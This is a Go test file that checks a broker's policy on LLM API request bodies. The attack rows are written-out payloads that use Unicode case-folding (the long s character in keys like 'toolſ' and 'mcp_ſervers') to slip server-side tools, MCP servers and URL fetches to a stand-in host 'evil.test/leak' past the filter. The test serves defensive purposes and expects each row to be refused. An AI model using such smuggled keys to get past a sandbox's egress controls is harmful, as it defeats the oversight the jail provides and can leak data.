package brokerctl

import (
	"encoding/json"
	"io"
	"net/http"
	"strings"
	"sync"
	"testing"
)

// goUpstreamRequest is how an upstream (or a proxy in front of the real API) written in Go
// reads a model-call body: encoding/json matches object keys to struct fields without
// case, by Unicode simple folding, so "toolſ" (U+017F LATIN SMALL LETTER LONG S) fills
// Tools and "ſource" fills Source. Such an upstream re-serialises or acts on what it read.
type goUpstreamRequest struct {
	Tools []struct {
		Type string `json:"type"`
	} `json:"tools"`
	MCPServers       []any `json:"mcp_servers"`
	WebSearchOptions any   `json:"web_search_options"`
	Messages         []struct {
		Content []struct {
			Source struct {
				Type string `json:"type"`
				URL  string `json:"url"`
			} `json:"source"`
		} `json:"content"`
	} `json:"messages"`
}

// fetches reports what a Go upstream would fetch for the jail after reading body.
func (g goUpstreamRequest) fetches() []string {
	var out []string
	for _, t := range g.Tools {
		if !clientToolTypes[t.Type] {
			out = append(out, "server tool "+t.Type)
		}
	}
	if g.MCPServers != nil {
		out = append(out, "mcp_servers")
	}
	if g.WebSearchOptions != nil {
		out = append(out, "web_search_options")
	}
	for _, m := range g.Messages {
		for _, c := range m.Content {
			if c.Source.URL != "" {
				out = append(out, "source url "+c.Source.URL)
			}
		}
	}
	return out
}

// TestBodyPolicyUnicodeCaseFolding: the body policy compares keys "without case", and a
// Go upstream's decoder folds case by Unicode simple folding, where U+017F (ſ) is 's' and
// U+212A (Kelvin sign) is 'k'. Each attack row goes over real mTLS to an allowed route
// and must be refused 403 before the upstream has the body whole. Each attack row first
// proves its payload: decoded by encoding/json as a Go upstream would, the same bytes ask
// for a fetch. The control rows (the same spellings with a client tool, inline data) must
// reach the upstream byte for byte.
func TestBodyPolicyUnicodeCaseFolding(t *testing.T) {
	var mu sync.Mutex
	var got []string
	h := newHarness(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, err := io.ReadAll(r.Body)
		if err == nil && json.Valid(b) {
			mu.Lock()
			got = append(got, string(b))
			mu.Unlock()
		}
		io.WriteString(w, `{"ok":true}`)
	}), func(o *Options) { o.LLMRoutes = []string{"POST /v1/messages"} })
	cert := h.workerCert("w1")
	c := h.client(&cert)
	rows := []struct {
		name, body string
		ok         bool
	}{
		{"control: long s in tools, client tool", `{"toolſ":[{"type":"function"}]}`, true},
		{"control: long s in source, inline data", `{"messages":[{"content":[{"type":"image","ſource":{"type":"base64","data":"AAAA"}}]}]}`, true},
		{"control: escaped long s in tools, client tool", `{"tool\u017f":[{"type":"custom"}]}`, true},
		{"long s in tools", `{"toolſ":[{"type":"web_search_20250305","name":"web_search"}]}`, false},
		{"escaped long s in tools", `{"tool\u017f":[{"type":"web_fetch_20250910"}]}`, false},
		{"long s in mcp_servers", `{"mcp_ſervers":[{"type":"url","url":"https://evil.test/","name":"x"}]}`, false},
		{"long s in web_search_options", `{"web_ſearch_options":{}}`, false},
		{"long s in source", `{"messages":[{"content":[{"type":"image","ſource":{"type":"url","url":"https://evil.test/leak"}}]}]}`, false},
		{"upper long s mix in source", `{"messages":[{"content":[{"type":"image","SOURCE":{"type":"url","url":"https://evil.test/a"}},{"ſOURCE":{"type":"url","url":"https://evil.test/b"}}]}]}`, false},
	}
	for _, r := range rows {
		var g goUpstreamRequest
		if err := json.Unmarshal([]byte(r.body), &g); err != nil {
			t.Fatalf("%s: %v", r.name, err)
		}
		// The payload is real: a Go upstream reads a fetch out of every attack row, and
		// none out of a control row.
		if f := g.fetches(); (len(f) == 0) != r.ok {
			t.Fatalf("%s: a Go upstream reads fetches %v from it; the row is mislabelled", r.name, f)
		}
		mu.Lock()
		before := len(got)
		mu.Unlock()
		req, _ := http.NewRequest("POST", h.url+"/llm/v1/messages", strings.NewReader(r.body))
		req.Header.Set("Content-Type", "application/json")
		resp, err := c.Do(req)
		if err != nil {
			t.Fatalf("%s: %v", r.name, err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		mu.Lock()
		reached := len(got) > before && got[len(got)-1] == r.body
		mu.Unlock()
		if r.ok {
			if resp.StatusCode != 200 || !reached {
				t.Errorf("%s: %d %s, upstream got it intact: %v", r.name, resp.StatusCode, capText(string(b), 200), reached)
			}
			continue
		}
		if resp.StatusCode != 403 || !strings.Contains(string(b), "body_refused") || reached {
			t.Errorf("%s: %d %s, upstream received a complete body: %v", r.name, resp.StatusCode, capText(string(b), 300), reached)
		}
	}
}
